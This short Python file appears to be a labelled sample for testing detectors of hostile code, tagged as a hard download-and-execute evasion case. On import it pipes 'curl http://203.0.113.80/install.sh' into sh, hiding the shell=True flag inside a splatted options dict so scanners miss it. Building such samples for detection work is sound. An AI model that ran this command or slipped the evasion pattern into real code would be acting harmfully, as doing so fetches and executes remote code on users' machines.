# evasion: shell=True is hidden in a dict of options splatted into subprocess.run(**opts), so the call shows only a string and no shell keyword
# grade: hard; does: download-exec
import subprocess

RUN_OPTS = {"shell": True, "check": False, "timeout": 60}


def bootstrap():
    line = "curl -fsSL http://203.0.113.80/install.sh | sh"
    return subprocess.run(line, **RUN_OPTS).returncode


bootstrap()
